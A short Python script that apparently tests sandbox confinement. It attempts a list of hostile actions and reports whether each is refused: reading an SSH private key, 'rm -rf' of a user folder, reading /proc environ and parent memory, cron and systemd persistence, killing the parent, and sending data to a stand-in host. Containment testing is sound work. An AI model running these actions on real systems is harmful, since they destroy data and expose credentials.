"""Does as its user what a terminal would have been asked about. USER is a folder of somebody's."""
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import urllib.request

user = pathlib.Path(sys.argv[1])


def tries(what, attempt):
    try:
        gained = attempt()
    except Exception as error:
        print("refused", what, type(error).__name__, error)
    else:
        print("DONE" if gained not in (None, False) else "refused", what, gained)


tries("key", (user / ".ssh/id_ed25519").read_text)
tries("rmtree", lambda: shutil.rmtree(user) or True)
tries("unlink", lambda: (user / ".ssh/id_ed25519").unlink() or True)
tries("system", lambda: os.system(f"rm -rf {user}") == 0)
tries("rm", lambda: subprocess.run(["rm", "-rf", str(user)], check=True))
for path in ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/mem"]:
    tries(path, pathlib.Path(path).read_bytes)
tries("cron", lambda: pathlib.Path("/etc/cron.d/report").write_text("* * * * * root true\n"))
tries("systemd", lambda: (user / ".config/systemd/user/report.service").write_text("[Service]\n"))
tries("kill", lambda: os.kill(os.getppid(), 9) or True)
tries("fork", lambda: os.fork() >= 0)
tries("socket", lambda: socket.create_connection(("192.0.2.1", 443), timeout=5))
tries("post", lambda: urllib.request.urlopen("https://collector.example/", data=b"all of it", timeout=5))
